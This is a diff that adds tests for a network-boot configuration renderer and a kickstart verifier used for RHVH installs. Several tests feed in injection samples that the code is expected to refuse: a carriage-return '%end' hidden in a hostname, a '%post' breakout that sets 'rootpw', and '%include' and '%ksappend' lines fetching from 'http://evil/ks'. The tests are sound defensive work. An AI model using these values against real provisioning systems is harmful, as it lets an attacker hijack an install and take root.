@@ -254,3 +254,81 @@ for (const kind of ['pxelinux', 'grub', 'ipxe'] as const) {
     assert.ok(off.ok && !off.text.includes('inst.syslog'), 'no inst.syslog when the receiver is off');
   });
 }
+
+test('GRUB: exactly one kernel command pair; linuxefi/initrdefi when the GRUB has them, linux/initrd by default', () => {
+  const def = renderer.installConfig('grub', ctx('rhvh-base'));
+  const efi = renderer.installConfig('grub', { ...ctx('rhvh-base'), grubKernelCommand: 'linuxefi' });
+  assert.ok(def.ok && efi.ok);
+  if (!def.ok || !efi.ok) return;
+  assert.equal(def.text.match(/^\s*(linux|linuxefi) /gm)?.length, 1);
+  assert.match(def.text, /^ {2}linux \/rhvh-4\.3\/vmlinuz .*\n {2}initrd \/rhvh-4\.3\/initrd\.img$/m);
+  assert.doesNotMatch(def.text, /\bif\b|linuxefi|initrdefi/);
+  assert.equal(efi.text.match(/^\s*(linux|linuxefi) /gm)?.length, 1);
+  assert.match(efi.text, /^ {2}linuxefi \/rhvh-4\.3\/vmlinuz .*\n {2}initrdefi \/rhvh-4\.3\/initrd\.img$/m);
+  assertGolden('grub-install-linuxefi.cfg', efi.text);
+});
+
+for (const kind of ['pxelinux', 'grub', 'ipxe'] as const) {
+  test(`${kind}: the install line carries inst.ks.sendmac (Anaconda then sends X-RHN-Provisioning-MAC-* headers)`, () => {
+    const r = renderer.installConfig(kind, ctx('rhvh-base'));
+    assert.ok(r.ok && / inst\.ks\.sendmac /.test(r.text));
+  });
+}
+
+test('a stage2 URL with & in its query works in GRUB (quoted, grub-script-check passes) and iPXE and pxelinux (as is)', () => {
+  const c = ctx('rhvh-base');
+  const withQuery = { ...c, profile: { ...c.profile, image: { ...c.profile.image, stage2: 'http://mirror.example/rhvh?a=1&b=2' } } };
+  const grub = renderer.installConfig('grub', withQuery);
+  const ipxe = renderer.installConfig('ipxe', withQuery);
+  const pxe = renderer.installConfig('pxelinux', withQuery);
+  assert.ok(grub.ok && ipxe.ok && pxe.ok);
+  if (!grub.ok || !ipxe.ok || !pxe.ok) return;
+  assert.match(grub.text, / 'inst\.stage2=http:\/\/mirror\.example\/rhvh\?a=1&b=2' /);
+  assert.match(ipxe.text, / inst\.stage2=http:\/\/mirror\.example\/rhvh\?a=1&b=2 /);
+  assert.match(pxe.text, / inst\.stage2=http:\/\/mirror\.example\/rhvh\?a=1&b=2 /);
+  if (!spawnSync('grub-script-check', ['--help']).error) {
+    const f = join(tempDir(), 'g.cfg');
+    writeFileSync(f, grub.text);
+    const r = spawnSync('grub-script-check', [f], { encoding: 'utf8' });
+    assert.equal(r.status, 0, r.stderr + r.stdout);
+  }
+});
+
+test('a value a boot config cannot carry is refused with the field it came from, not rendered', () => {
+  const c = ctx('rhvh-base');
+  // Image files resolved from the image store skip the profile grammar: the escape is the last fence.
+  const spaced = { ...c, profile: { ...c.profile, image: { ...c.profile.image, stage2: 'http://x/a b' } } };
+  for (const kind of ['pxelinux', 'ipxe'] as const) {
+    const r = renderer.installConfig(kind, spaced);
+    assert.equal(r.ok, false);
+    if (!r.ok) assert.match(r.error, /cannot be written in .*(from image\.stage2)/, r.error);
+  }
+  const dollar = { ...c, profile: { ...c.profile, image: { ...c.profile.image, stage2: 'http://x/${net0/mac}' } } };
+  const ipxe = renderer.installConfig('ipxe', dollar);
+  assert.ok(!ipxe.ok && /an iPXE script: iPXE has no quoting for "\$" \(from image\.stage2\)/.test(ipxe.error), ipxe.ok ? '' : ipxe.error);
+  const grub = renderer.installConfig('grub', dollar);
+  assert.ok(grub.ok && grub.text.includes(`'inst.stage2=http://x/\${net0/mac}'`), 'GRUB can quote it: single quotes stop $ expansion');
+  const cr = renderer.kickstart({ ...c, host: { ...c.host, hostname: 'rhvh01\r%end' } });
+  assert.ok(!cr.ok && /U\+000D \(carriage return\)/.test(cr.error), cr.ok ? '' : cr.error);
+});
+
+test('the kickstart check refuses what the template would never emit (a rendered kickstart that fails it is not served)', () => {
+  const c = ctx('rhvh-base');
+  const r = renderer.kickstart(c);
+  assert.ok(r.ok);
+  if (!r.ok) return;
+  const broken: [string, string, RegExp][] = [
+    ['a %end inside %post', r.text.replace('nodectl init\n', 'nodectl init\n%end\nrootpw --plaintext x\n%post\n'), /"%end" at the start of a line inside %post|commands differ|expected one %post/],
+    ['a carriage return', r.text.replace('nodectl init', 'nodectl init\r%end'), /U\+000D \(carriage return\)/],
+    ['a line separator', r.text.replace('nodectl init', 'nodectl init\u2028rootpw x'), /U\+2028/],
+    ['an extra command', r.text.replace('reboot\n', 'reboot\nfirewall --disabled\n'), /unexpected firewall/],
+    ['an extra section', `${r.text}\n%packages\n@core\n%end\n`, /sections are %pre %post %packages/],
+    ['an unclosed section', r.text.slice(0, r.text.lastIndexOf('%end')), /never closed with %end/],
+    ['%include', r.text.replace('reboot\n', 'reboot\n%include http://evil/ks\n'), /unknown section %include/],
+    ['a %ksappend in %post', r.text.replace('nodectl init\n', 'nodectl init\n  %ksappend http://evil/ks\n'), /"%ksappend" at the start of a line inside %post/],
+  ];
+  for (const [what, text, expected] of broken) {
+    const problems = verifyKickstart(text, c.profile);
+    assert.ok(problems.some((p) => expected.test(p)), `${what}: ${problems.join(' | ')}`);
+  }
+});
